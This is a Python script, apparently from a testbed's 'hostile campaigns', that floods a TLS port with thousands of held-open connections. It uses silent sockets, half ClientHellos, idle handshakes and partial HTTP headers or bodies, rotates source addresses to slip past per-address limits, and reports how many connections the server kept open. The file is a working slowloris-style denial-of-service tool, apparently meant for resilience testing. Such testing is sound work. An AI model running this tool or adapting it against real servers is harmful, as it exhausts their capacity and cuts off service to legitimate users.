"""A stranger at a TLS port: opens many connections and stops at some point of each. `python -m campaigns.hostile.port_flood URL`.

Prints a line of JSON when all are open, holds them until standard input ends, and prints how many the server left.
Blocking sockets in a few threads, because a TLS connection of asyncio would cost the attacker as much as the attacked.
"""

import argparse
import contextlib
import itertools
import json
import selectors
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlsplit

from robotapp_testbed.control_plane.servers import unverified

THREADS: Final = 16
PATIENCE_S: Final = 5.0
HALF_HELLO: Final = bytes.fromhex("16030102000100")
"""The head of a ClientHello of 512 bytes, which never come."""
HALF_HEAD: Final = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "
HALF_BODY: Final = b"POST /metrics HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{"


def open_silent(sock: socket.socket) -> socket.socket:
    """Sends nothing."""
    return sock


def open_half_hello(sock: socket.socket) -> socket.socket:
    """Begins a TLS handshake."""
    sock.sendall(HALF_HELLO)
    return sock


def open_idle(sock: socket.socket) -> socket.socket:
    """Completes the handshake, and sends nothing."""
    return _TLS.wrap_socket(sock)


def open_half_head(sock: socket.socket) -> socket.socket:
    """Completes the handshake, and begins a request."""
    secured = _TLS.wrap_socket(sock)
    secured.sendall(HALF_HEAD)
    return secured


def open_half_body(sock: socket.socket) -> socket.socket:
    """Completes the handshake, and begins the body of a request."""
    secured = _TLS.wrap_socket(sock)
    secured.sendall(HALF_BODY)
    return secured


MODES: Final[Mapping[str, Callable[[socket.socket], socket.socket]]] = {
    "silent": open_silent,
    "half-hello": open_half_hello,
    "idle": open_idle,
    "half-head": open_half_head,
    "half-body": open_half_body,
}
_TLS: Final[ssl.SSLContext] = unverified()


@dataclass(frozen=True, slots=True)
class Target:
    """Destination of connections, and the addresses of this machine from which they come in turn."""

    host: str
    port: int
    sources: tuple[str, ...]


def list_sources(count: int) -> tuple[str, ...]:
    """Returns so many addresses of this machine, which are none of those that honest users here have. At most 60,000."""
    return tuple(f"127.1.{number // 250}.{1 + number % 250}" for number in range(count))


class Flood:
    """Connections that are held open. `opened` reached their point, `refused` did not."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self._sources = itertools.cycle(target.sources)
        self._sockets: list[socket.socket] = []
        self._lock = threading.Lock()
        self.opened = 0
        self.refused = 0

    def __repr__(self) -> str:
        return f"<Flood: {self.opened} opened, {self.refused} refused>"

    def open(self, mode: str, connections: int) -> None:
        """Opens that many, in turns of a few threads, and holds them."""
        with ThreadPoolExecutor(THREADS) as pool:
            for source in itertools.islice(self._sources, connections):
                pool.submit(self._open_one, MODES[mode], source)

    def _open_one(self, advance: Callable[[socket.socket], socket.socket], source: str) -> None:
        try:
            sock = socket.create_connection(
                (self._target.host, self._target.port), PATIENCE_S, source_address=(source, 0)
            )
        except OSError:
            with self._lock:
                self.refused += 1
            return
        try:
            advanced = advance(sock)
        except OSError:
            sock.close()
            with self._lock:
                self.refused += 1
            return
        with self._lock:
            self.opened += 1
            self._sockets.append(advanced)

    def count_held(self) -> int:
        """Returns how many the server has not closed. What it sent before, such as TLS tickets, is read and thrown away."""
        return sum(not self._is_closed(sock) for sock in self._sockets)

    @staticmethod
    def _is_closed(sock: socket.socket) -> bool:
        with selectors.DefaultSelector() as selector:
            while True:
                selector.register(sock, selectors.EVENT_READ)
                ready = selector.select(0)
                selector.unregister(sock)
                if not ready:
                    return False
                try:
                    if not _receive_raw(sock):
                        return True
                except OSError:
                    return True

    def close(self) -> None:
        for sock in self._sockets:
            with contextlib.suppress(OSError):
                sock.close()


def _receive_raw(sock: socket.socket) -> bytes:
    """Returns bytes below TLS, which nobody reads afterwards; empty at the end."""
    raw = socket.socket(fileno=sock.fileno())
    try:
        return raw.recv(1 << 16)
    finally:
        raw.detach()


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m campaigns.hostile.port_flood", description=__doc__)
    parser.add_argument("url")
    parser.add_argument("--mode", choices=MODES, action="append", required=True, help="may be repeated: in turns")
    parser.add_argument("--connections", type=int, default=10_000, help="of all modes together")
    parser.add_argument("--addresses", type=int, default=1, help="from so many addresses, in turn (default: 1)")
    options = parser.parse_args()
    parts = urlsplit(options.url)
    flood = Flood(Target(parts.hostname or "127.0.0.1", parts.port or 443, list_sources(options.addresses)))
    began_s = time.monotonic()
    for mode in options.mode:
        flood.open(mode, options.connections // len(options.mode))
    figures = {"opened": flood.opened, "refused": flood.refused, "opening_s": time.monotonic() - began_s}
    print(json.dumps(figures), flush=True)
    sys.stdin.read()
    print(json.dumps({"held": flood.count_held()}))
    flood.close()


if __name__ == "__main__":
    main()
